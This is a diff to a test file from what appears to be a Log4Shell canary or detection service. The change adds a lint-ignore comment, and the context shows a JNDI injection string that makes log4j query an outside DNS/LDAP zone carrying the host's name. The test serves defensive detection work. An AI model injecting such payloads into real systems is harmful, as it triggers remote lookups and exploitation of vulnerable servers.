@@ -25,6 +25,7 @@ describe('log4shell strings resolved with dig, svn repositories checked out with
     const lookup = readFileSync(out, 'utf8').trim();
     assert.equal(lookup, `\${jndi:ldap://x\${hostName}.L4J.${token.id}.${ZONE}/a}`);
     // What log4j resolves once it has put its host's name in place of ${hostName}.
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: log4j's own placeholder, replaced as log4j replaces it
     const name = /^\$\{jndi:ldap:\/\/([^/]+)\/a\}$/.exec(lookup)![1]!.replace('${hostName}', 'payroll-db-01');
     const answer = await dig(server.dnsPort, [name]);
     assert.equal(answer.status, 'NOERROR');
